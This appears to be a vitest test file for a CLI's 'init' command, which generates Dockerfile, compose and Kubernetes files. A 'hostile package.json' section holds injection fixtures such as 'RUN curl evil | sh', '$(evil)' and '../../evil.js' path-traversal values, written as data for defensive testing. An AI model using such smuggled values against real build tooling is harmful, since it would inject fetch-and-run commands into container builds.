import { existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse, parseAllDocuments } from 'yaml';
import { TEMPLATE_NAMES } from '../../src/app/init/templates.ts';
import { COMMANDS } from '../../src/cli/commands.ts';
import { type GitRepo, gitRepo } from '../support/git-repo.ts';
import { PROJECTS, type SampleProject } from '../support/init-projects.ts';
import { onlyFromSource, plimsoll } from '../support/io.ts';

/** Rules of `ALL` that a starter cannot satisfy, or that contradict another of its aims. */
const LEFT_OUT = [
  'BASE007', // tags move within their line, so that rebuilds bring patches
  'BASE008', // digests need a registry; `plimsoll` works offline
  'DL3008', // Debian removes old versions, so a pinned one stops building
  'DL3057', // distroless and chiseled images have nothing to check with; Kubernetes probes do
  'K8S210', // the uid is the one that the image made for the program, such as 1000
  'K8S216', // and so is the gid
  'K8S214', // user namespaces need a runtime and a kernel that not every cluster has
  'K8S306', // Guaranteed QoS wastes CPU for a starter
  'K8S338', // ndots is the cluster's business
  'K8S339', // and so are nodes
  'K8S404', // tags of releases do not move: asking the registry each time is not needed
];

function inRepo(repo: GitRepo, ...argv: string[]) {
  return plimsoll(argv, { cwd: repo.root, env: repo.env });
}

function repoOf({ files }: Pick<SampleProject, 'files'>): GitRepo {
  const repo = gitRepo();
  for (const [path, text] of Object.entries(files)) repo.write(path, text);
  return repo;
}

const read = (repo: GitRepo, path: string): string => readFileSync(join(repo.root, path), 'utf8');

/** The words that follow an instruction, the last time it is there. */
function last(dockerfile: string, pattern: RegExp): string | undefined {
  return [...dockerfile.matchAll(pattern)].at(-1)?.[1];
}

describe('plimsoll init', () => {
  it.each(Object.entries(PROJECTS))(
    '%s: three files that agree, and pass every rule but the listed ones',
    async (_, project) => {
      const repo = repoOf(project);
      const operand = project.template === undefined ? [] : [project.template];
      const { status, out } = await inRepo(repo, 'init', ...operand, '--compose', '--kubernetes');
      expect(status).toBe(0);
      expect(out.split('\n')[0]).toBe(project.title);
      for (const file of ['.plimsoll.yaml', 'Dockerfile', '.dockerignore', 'compose.yaml', 'kubernetes/app.yaml'])
        expect(out).toContain(`wrote ${file}\n`);
      const dockerfile = read(repo, 'Dockerfile');
      for (const part of project.dockerfile) expect(dockerfile).toContain(part);
      agree(repo, project);

      repo.git('add', '-A');
      const checked = await inRepo(
        repo,
        'check',
        '--format',
        'json',
        '--select',
        'ALL',
        '--ignore',
        LEFT_OUT.join(),
        '--fail-on',
        'style',
      );
      const { findings, summary } = JSON.parse(checked.out);
      expect(findings.map((one: { rule: string; message: string }) => `${one.rule} ${one.message}`)).toEqual([]);
      expect(summary.files).toBe(3);
      expect((await inRepo(repo, 'check', '--staged')).status).toBe(0);
    },
    60_000,
  );

  /** Port, user and health checks of the three files. */
  function agree(repo: GitRepo, { port, uid, path }: SampleProject): void {
    const dockerfile = read(repo, 'Dockerfile');
    expect(last(dockerfile, /^EXPOSE (\d+)$/gm)).toBe(port?.toString());
    expect(last(dockerfile, /^USER (\d+):\d+$/gm)).toBe(String(uid));
    const health = last(dockerfile, /^HEALTHCHECK .*\\\n {2}CMD (\[.*\])$/gm);
    expect(dockerfile).toMatch(/^(?:CMD|ENTRYPOINT) \["[^\n]*"\]$|php:|nginx/m);

    const service = Object.values<Record<string, unknown>>(parse(read(repo, 'compose.yaml')).services)[0] ?? {};
    expect(String(service['user']).split(':')[0]).toBe(String(uid));
    expect(service['ports']).toEqual(port === undefined ? undefined : [`127.0.0.1:${port}:${port}`]);
    const check = service['healthcheck'] as { test: string[] } | undefined;
    expect(check?.test.map((word) => word.replaceAll('$$', '$'))).toEqual(health && ['CMD', ...JSON.parse(health)]);

    const objects = parseAllDocuments(read(repo, 'kubernetes/app.yaml')).map((document) => document.toJS());
    const deployment = objects.find(({ kind }) => kind === 'Deployment').spec.template.spec;
    const [container] = deployment.containers;
    expect(deployment.securityContext.runAsUser).toBe(uid);
    expect(container.ports?.[0].containerPort).toBe(port);
    expect(objects.some(({ kind }) => kind === 'Service')).toBe(port !== undefined);
    expect(container.livenessProbe?.httpGet?.path).toBe(path);
    if (port !== undefined && path === undefined) expect(container.livenessProbe.tcpSocket).toBeDefined();
    if (health !== undefined && path !== undefined) expect(health).toContain(path);
    const mounts: string[] = container.volumeMounts.map(({ mountPath }: { mountPath: string }) => mountPath);
    expect(service['tmpfs']).toEqual(mounts);
  }

  it.each(['npm', 'uv', 'go', 'rails', 'dotnet', 'vite'])('%s passes what hadolint asks for', async (name) => {
    const repo = repoOf(PROJECTS[name] ?? { files: {} });
    await inRepo(repo, 'init');
    const { out } = await inRepo(
      repo,
      'check',
      'Dockerfile',
      '--select',
      'hadolint',
      '--ignore',
      LEFT_OUT.join(),
      '--format',
      'compact',
    );
    expect(out).toBe('');
  });

  it.each(TEMPLATE_NAMES)(
    '%s works in an empty directory, with defaults and a note for each assumption',
    async (name) => {
      const repo = gitRepo();
      const { status, out } = await inRepo(repo, 'init', name, '--compose', '--kubernetes');
      expect(status).toBe(0);
      expect(read(repo, 'Dockerfile')).toMatch(/^USER \d+:\d+$/m);
      expect(out).toMatch(/^note: /m);
    },
  );

  it('keeps every file that is there, and lets the others follow an existing Dockerfile', async () => {
    const repo = gitRepo();
    repo.write('go.mod', 'module x\n');
    repo.write(
      'Containerfile',
      'FROM a\nEXPOSE 1\nFROM b\nEXPOSE 9999\nUSER 4242:4243\nHEALTHCHECK CMD ["wget", "http://localhost:9999/live"]\n',
    );
    repo.write('.plimsoll.json', '{}');
    const { out } = await inRepo(repo, 'init', '--compose', '--kubernetes');
    expect(out).toContain('kept .plimsoll.json\nkept Containerfile\nwrote .dockerignore\n');
    expect(read(repo, 'compose.yaml')).toContain('user: "4242:4243"');
    expect(read(repo, 'compose.yaml')).toContain('127.0.0.1:9999:9999');
    expect(read(repo, 'compose.yaml')).not.toContain('healthcheck');
    expect(read(repo, 'kubernetes/app.yaml')).toContain('path: /live');
    expect(read(repo, 'kubernetes/app.yaml')).toContain('runAsUser: 4242\n        runAsGroup: 4243');
    const before = ['Containerfile', '.dockerignore', 'compose.yaml', 'kubernetes/app.yaml'].map((path) =>
      read(repo, path),
    );
    const again = (await inRepo(repo, 'init', 'node', '--compose', '--kubernetes')).out;
    expect(again).not.toContain('wrote');
    expect(
      ['Containerfile', '.dockerignore', 'compose.yaml', 'kubernetes/app.yaml'].map((path) => read(repo, path)),
    ).toEqual(before);
  });

  it('follows no link out of the project, neither to read nor to write', async () => {
    const repo = gitRepo();
    const outside = mkdtempSync(join(tmpdir(), 'plimsoll-init-'));
    writeFileSync(join(outside, 'package.json'), '{"name": "secret-name", "scripts": {"start": "node secret.js"}}');
    symlinkSync(join(outside, 'package.json'), join(repo.root, 'package.json'));
    symlinkSync(join(outside, 'nowhere'), join(repo.root, 'Dockerfile'));
    symlinkSync(outside, join(repo.root, 'kubernetes'));
    const { status, out, err } = await inRepo(repo, 'init', '--kubernetes');
    expect(out).toContain('kept Dockerfile\n');
    expect(err).toContain('cannot write kubernetes/app.yaml: kubernetes is a symbolic link to another place');
    expect(status).toBe(2);
    expect(existsSync(join(outside, 'app.yaml'))).toBe(false);
    expect(existsSync(join(outside, 'nowhere'))).toBe(false);
    expect(out + err + read(repo, '.dockerignore')).not.toContain('secret');
  });

  it('--dry-run writes nothing', async () => {
    const repo = gitRepo();
    expect((await inRepo(repo, 'init', 'go', '--dry-run', '--compose')).out).toContain('would write Dockerfile\n');
    expect(repo.git('status', '--porcelain')).toBe('');
  });

  it('lists the templates for a wrong name, and where nothing is recognized', async () => {
    const repo = gitRepo();
    const names = TEMPLATE_NAMES.join(', ');
    expect(await inRepo(repo, 'init', 'pyhton')).toMatchObject({
      status: 2,
      err: `plimsoll: unknown template "pyhton"\nhint: did you mean python? templates: ${names}\n`,
    });
    expect((await inRepo(repo, 'init', 'cobol')).err).toBe(
      `plimsoll: unknown template "cobol"\nhint: templates: ${names}\n`,
    );
    expect((await inRepo(repo, 'init')).out).toContain(
      `No project was recognized. Name a template to add a Dockerfile:\n  ${names}\n`,
    );
    expect(COMMANDS.find(({ name }) => name === 'init')?.words).toEqual(TEMPLATE_NAMES);
  });

  it('asks on a terminal for what it cannot detect', async (context) => {
    onlyFromSource(context, 'a process has no terminal here');
    const repo = gitRepo();
    repo.write('package.json', '{}');
    const answers = '../../etc/passwd\nlib/start.js\n70000\n5005\n/ready\n';
    const { out, err } = await plimsoll(['init', '--kubernetes'], {
      cwd: repo.root,
      env: repo.env,
      tty: true,
      stdin: answers,
    });
    expect(err).toBe(
      'file to start [index.js]: That is not a valid answer.\nfile to start [index.js]: ' +
        'port [3000]: That is not a valid answer.\nport [3000]: health check path [none]: ',
    );
    expect(out).not.toContain('assumed');
    expect(read(repo, 'Dockerfile')).toContain('CMD ["node", "lib/start.js"]');
    expect(read(repo, 'Dockerfile')).toContain('EXPOSE 5005');
    expect(read(repo, 'kubernetes/app.yaml')).toContain('path: /ready');
  });

  it('asks for the template on a terminal', async (context) => {
    onlyFromSource(context, 'a process has no terminal here');
    const repo = gitRepo();
    const world = { cwd: repo.root, env: repo.env, tty: true };
    await plimsoll(['init'], { ...world, stdin: 'static\n' });
    expect(read(repo, 'Dockerfile')).toContain('nginx');
    const other = gitRepo();
    expect((await plimsoll(['init'], { ...world, cwd: other.root, stdin: '\n' })).out).toContain(
      'No project was recognized',
    );
  });

  it('the commented configuration is right, also uncommented', async () => {
    const repo = gitRepo();
    const text = readFileSync(new URL('../../templates/config/.plimsoll.yaml', import.meta.url), 'utf8');
    const lines = text.split('\n').map((line) => (/^# (?:[a-zA-Z]+:| {2})/.test(line) ? line.slice(2) : line));
    repo.write('.plimsoll.yaml', lines.join('\n'));
    repo.write('a.yaml', 'apiVersion: v1\nkind: Namespace\nmetadata: {name: a}\n');
    const { status, err } = await inRepo(repo, 'check', 'a.yaml');
    expect({ status, err }).toEqual({ status: 0, err: '' });
  });
});

describe('a hostile package.json', () => {
  const HOSTILE = [
    ['a name with lines', { name: 'x"\nRUN curl evil | sh\n#', scripts: { start: 'node a.js' } }],
    ['a start script with shell', { name: 'a', scripts: { start: 'node a.js; curl evil | sh' } }],
    ['a start script with quotes', { scripts: { start: 'node "a.js\\"]\\nRUN evil"' } }],
    ['a start script with variables', { scripts: { start: 'node $(evil) ${evil} `evil` {{ evil }}' } }],
    ['a main that climbs', { main: '../../evil.js', scripts: { build: 'evil' } }],
    ['a package manager with a command', { packageManager: 'pnpm@1;evil' }],
    ['engines with a command', { engines: { node: '20\nRUN evil' } }],
    [
      'names of Object',
      { scripts: { constructor: 'evil' }, dependencies: { toString: '1', __proto__: { evil: '1' } } },
    ],
    [
      'wrong types',
      { name: ['evil'], scripts: 'evil', dependencies: [1], engines: null, workspaces: 3, packageManager: {} },
    ],
  ] as const;

  it.each(HOSTILE)('%s reaches no file', async (_, content) => {
    const repo = gitRepo();
    repo.write('package.json', JSON.stringify(content));
    repo.write('a.js', '');
    const { status, out } = await inRepo(repo, 'init', '--compose', '--kubernetes');
    expect(status).toBe(0);
    const written = ['Dockerfile', '.dockerignore', 'compose.yaml', 'kubernetes/app.yaml']
      .map((path) => read(repo, path))
      .join('');
    // A name is cut down to letters and hyphens.
    expect((out + written).replaceAll(/x-run-curl-evil-sh/g, '')).not.toMatch(/evil/);
    repo.git('add', '-A');
    const { findings } = JSON.parse(
      (await inRepo(repo, 'check', '--format', 'json', '--select', 'ALL', '--ignore', `${LEFT_OUT.join()},XF`)).out,
    );
    expect(findings).toEqual([]);
  });

  it('that is huge, or no object, is left unread', async () => {
    for (const text of [`{"name": "${'x'.repeat(2_000_000)}"}`, '[]', 'null', '{', '\u0000']) {
      const repo = gitRepo();
      repo.write('package.json', text);
      const { status, out } = await inRepo(repo, 'init');
      expect(status).toBe(0);
      expect(out.includes('note: not used: package.json is too large: 1954 kB, at most 1024 kB\n')).toBe(
        text.length > 1_000_000,
      );
      expect(read(repo, 'Dockerfile')).toContain('CMD ["node", "index.js"]');
    }
  });

  it('that is a directory is no package', async () => {
    const repo = gitRepo();
    mkdirSync(join(repo.root, 'package.json'));
    expect((await inRepo(repo, 'init')).out).toContain('No project was recognized');
  });
});
